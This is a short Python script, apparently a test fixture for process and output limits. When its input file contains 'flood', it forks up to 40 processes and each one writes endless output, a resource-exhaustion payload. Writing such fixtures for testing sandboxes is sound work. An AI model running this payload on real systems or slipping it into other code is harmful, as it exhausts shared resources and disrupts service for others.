import os
import pathlib
import sys

import tinytemplate

print(tinytemplate.__name__)
if "flood" in pathlib.Path(sys.argv[1]).read_text():
    for _ in range(40):
        if os.fork() == 0:
            break
    while True:
        sys.stdout.write("x" * 65536)
